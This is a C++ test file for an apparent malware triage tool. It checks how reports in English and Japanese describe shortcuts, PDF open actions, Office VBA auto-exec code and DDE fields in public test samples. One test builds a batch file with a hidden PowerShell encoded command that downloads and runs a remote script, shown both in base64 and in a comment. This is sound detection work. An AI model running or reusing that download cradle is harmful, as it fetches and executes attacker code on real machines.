// The "Document", "Shortcut" and "Script" blocks of the text and HTML reports, on reports made
// by triaging real files from ../shared/corpora (plaso's shortcut, corkami's PDFs, oletools'
// documents) and a PowerShell command generated here, in English and Japanese.
#include <catch2/catch.hpp>

#include <filesystem>
#include <string>

#include "kensa/core/file.h"
#include "kensa/pipeline/triage.h"
#include "kensa/report/render.h"
#include "kensa/test_support/command.h"

namespace kensa::report {
namespace {

const pipeline::TriageEngine& Engine() {
  static const std::unique_ptr<pipeline::TriageEngine> engine = [] {
    pipeline::TriageConfig config;
    config.static_config.rules_dir = "rules";
    std::vector<std::string> warnings;
    auto created = pipeline::TriageEngine::Create(config, &warnings);
    REQUIRE(created.has_value());
    return std::move(*created);
  }();
  return *engine;
}

report::v1::Report Triage(ByteSpan data, const std::string& name) {
  auto report = Engine().Triage(data, {name, "test", "en", {}});
  REQUIRE(report.has_value());
  return std::move(*report);
}

report::v1::Report TriageFile(const std::string& path) {
  auto data = ReadFileBounded(path, 64 * 1024 * 1024);
  INFO(path);
  REQUIRE(data.has_value());
  return Triage(*data, std::filesystem::path(path).filename().string());
}

// The text of the section that starts with the heading `title`, up to the next heading.
std::string Section(const std::string& text, std::string_view title) {
  const auto start = text.find("-- " + std::string(title) + " ");
  if (start == std::string::npos) return {};
  const auto end = text.find("\n-- ", start + 1);
  return text.substr(start, end == std::string::npos ? std::string::npos : end - start);
}

bool Contains(const std::string& text, std::string_view part) {
  return text.find(part) != std::string::npos;
}

const std::string kCorpora = "../shared/corpora/";

TEST_CASE("A shortcut's target, arguments, working dir, icon and volume serial are in its block") {
  const auto report = TriageFile(kCorpora + "plaso-test-data/test_data/NeroInfoTool.lnk");
  const std::string text = RenderText(report, Language::kEnglish);
  const std::string block = Section(text, "Shortcut");
  INFO(text);
  REQUIRE_FALSE(block.empty());
  CHECK(Contains(block, "  Target             C:\\Program Files (x86)\\Nero\\Nero 9\\Nero InfoTool\\InfoTool.exe\n"));
  CHECK(Contains(block, "  Arguments          -ScParameter=30002\n"));
  CHECK(Contains(block, "  Working directory  C:\\Program Files (x86)\\Nero\\Nero 9\\Nero InfoTool\n"));
  CHECK(Contains(block, "  Icon               C:\\Program Files (x86)\\Nero\\Nero 9\\Nero InfoTool\\InfoTool.exe\n"));
  CHECK(Contains(block, "  Machine ID         win-3qmdjgkf3g9\n"));
  CHECK(Contains(block, "  MAC address        70:5a:b6:16:a5:f3\n"));
  CHECK(Contains(block, "  Volume serial      70EC-FA33 (DRIVE_FIXED)\n"));
  // The command line Windows runs: the quoted target and the arguments, wrapped at 100 columns.
  CHECK(Contains(block, "  Command line       \"C:\\Program Files (x86)\\Nero\\Nero 9\\Nero InfoTool\\InfoTool.exe\"\n"
                        "                     -ScParameter=30002\n"));
  // Nothing was decoded from that command line: no Script block.
  CHECK(Section(text, "Script").empty());

  const std::string ja = Section(RenderText(report, Language::kJapanese), "ショートカット (LNK)");
  CHECK(Contains(ja, "  ボリュームシリアル番号  70EC-FA33 (DRIVE_FIXED)\n"));
  CHECK(Contains(ja, "  作業フォルダー          C:\\Program Files (x86)\\Nero\\Nero 9\\Nero InfoTool\n"));
}

TEST_CASE("corkami's launch.pdf shows its Launch action, run on open, and no JavaScript") {
  const auto report = TriageFile(kCorpora + "corkami/pdf/launch.pdf");
  const std::string text = RenderText(report, Language::kEnglish);
  const std::string block = Section(text, "Document");
  INFO(text);
  REQUIRE_FALSE(block.empty());
  CHECK(Contains(block, "  Kind        PDF 1.1, pages: 1\n"));
  // The /F string holds line breaks (the trick hides the rest of the command): shown as marks.
  CHECK(Contains(block, "  Actions     Launch: VIRUS.exe line 1 \xE2\x8F\x8E line 2 \xE2\x8F\x8E line 3"));
  CHECK(Contains(block, "(catalog /OpenAction), runs on open\n"));
  CHECK_FALSE(Contains(block, "JavaScript"));
  CHECK(Contains(block, "  Encryption  none\n"));
}

TEST_CASE("corkami's javascript.pdf lists its three scripts with object, offset and trigger") {
  const auto report = TriageFile(kCorpora + "corkami/pdf/javascript.pdf");
  const std::string text = RenderText(report, Language::kEnglish);
  const std::string block = Section(text, "Document");
  INFO(text);
  CHECK(Contains(block, "  JavaScript  catalog /OpenAction (object 1, 50 bytes) @0x34, runs on open\n"
                        "              catalog /AA /WC (object 1, 46 bytes) @0x34, runs on open\n"
                        "              page 1 /AA /O (object 3, 56 bytes) @0x1a6, runs on open\n"));

  const std::string ja = Section(RenderText(report, Language::kJapanese), "文書ファイル");
  CHECK(Contains(ja, "  種類        PDF 1.0、1 ページ\n"));
  CHECK(Contains(ja, "catalog /OpenAction (オブジェクト 1、50 バイト) @0x34、開くと自動実行\n"));
  CHECK(Contains(ja, "  暗号化      なし\n"));

  const std::string html = RenderHtml(report, Language::kJapanese);
  CHECK(Contains(html, "<h2>文書ファイル</h2>"));
  CHECK(Contains(html, "<tr><th scope=\"row\">JavaScript</th><td class=\"mono wrap\">catalog /OpenAction "
                       "(オブジェクト 1、50 バイト) @0x34、開くと自動実行</td></tr>"));
}

TEST_CASE("A batch file's PowerShell -EncodedCommand is decoded and the final command shown, defanged") {
  // "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')" in UTF-16LE,
  // base64: what a dropper's batch file starts.
  const std::string script =
      "@echo off\r\nstart \"\" powershell.exe -nop -w hidden -EncodedCommand "
      "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8A"
      "dwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADgALgA1ADEALgAxADAAMAAuADcALwBhAC4AcABzADEAJwApAA=="
      "\r\nexit /b\r\n";
  const auto report =
      Triage(ByteSpan(reinterpret_cast<const std::uint8_t*>(script.data()), script.size()), "run.bat");
  const std::string text = RenderText(report, Language::kEnglish);
  const std::string block = Section(text, "Script");
  INFO(text);
  REQUIRE_FALSE(block.empty());
  CHECK(Contains(block, "  Language        batch\n"));
  CHECK(Contains(block, "  De-obfuscation  encoded_command x1 (powershell): IEX (New-Object\n"));
  CHECK(Contains(block, "  Final command   IEX (New-Object "
                        "Net.WebClient).DownloadString('hxxp[://]198[.]51[.]100[.]7/a.ps1')\n"));
  CHECK(Contains(block, "                  download_cradle: Net.WebClient.DownloadString\n"));
  CHECK_FALSE(Contains(text, "http://198.51.100.7"));

  const std::string ja = Section(RenderText(report, Language::kJapanese), "スクリプト");
  CHECK(Contains(ja, "  難読化の解除      encoded_command ×1 (powershell): "));
  CHECK(Contains(ja, "  最終的なコマンド  IEX (New-Object\n"));
}

TEST_CASE("An encrypted workbook: the cipher, the default password, and the VBA of its decrypted copy") {
  const auto report =
      TriageFile(kCorpora + "oletools-tests/tests/test-data/encrypted/autostart-encrypt-standardpassword.xls");
  const std::string text = RenderText(report, Language::kEnglish);
  INFO(text);
  const std::string sample = Section(text, "Document");
  CHECK(Contains(sample, "  Encryption   rc4 (RC4-128 MD5), decrypted (password: default)\n"));
  // The decrypted copy is a child sample with its own block, named.
  const auto child = text.find("  File name    decrypted-autostart-encrypt-standardpassword.xls\n");
  REQUIRE(child != std::string::npos);
  const std::string decrypted = Section(text.substr(text.rfind("-- Document ", child)), "Document");
  CHECK(Contains(decrypted, "  VBA modules  Modul1 (79 bytes of source)\n"
                            "               DieseArbeitsmappe (310 bytes of source)\n"
                            "               Tabelle1 (301 bytes of source)\n"));
  CHECK(Contains(decrypted, "  Auto-exec    Auto_Open (Modul1 line 2)\n"));
  CHECK(Contains(decrypted, "  Encryption   none\n"));

  const std::string ja = RenderText(report, Language::kJapanese);
  CHECK(Contains(ja, "  自動実行        Auto_Open (Modul1 2 行目)\n"));
  CHECK(Contains(ja, "復号済み (パスワード: default)\n"));
}

TEST_CASE("A Word document's DDEAUTO field is in its Document block with the command Word starts") {
  const auto report = TriageFile(kCorpora + "oletools-tests/tests/test-data/msodde/dde-test.docx");
  const std::string text = RenderText(report, Language::kEnglish);
  const std::string block = Section(text, "Document");
  INFO(text);
  REQUIRE_FALSE(block.empty());
  CHECK(Contains(block, "  Kind       Office Open XML (word), 11 parts\n"));
  CHECK(Contains(block, "  DDE        c:\\windows\\system32\\cmd.exe \"/k calc.exe\" (DDEAUTO, word/document.xml)\n"));
}

TEST_CASE("A .doc's DDE fields are in its Document block too, read through its piece table") {
  // oletools' zip (password "infected-test").
  const std::string doc = test_support::UnzipMember(
      kCorpora + "oletools-tests/tests/test-data/msodde/dde-test-from-office2003.doc.zip",
      "dde-test-from-office2003.doc", "infected-test");
  const auto report = Triage(Bytes(doc.begin(), doc.end()), "dde-test-from-office2003.doc");
  const std::string text = RenderText(report, Language::kEnglish);
  const std::string block = Section(text, "Document");
  INFO(text);
  CHECK(Contains(block, "  DDE         c:\\windows\\system32\\cmd.exe \"/k calc.exe\" (DDEAUTO, WordDocument)\n"));
  CHECK(Contains(block, "              c:\\windows\\system32\\cmd.exe \"/k calc.exe\" (WordDocument)\n"));
  CHECK(Contains(Section(text, "Signatures (1)"), "office_dde"));
}

}  // namespace
}  // namespace kensa::report
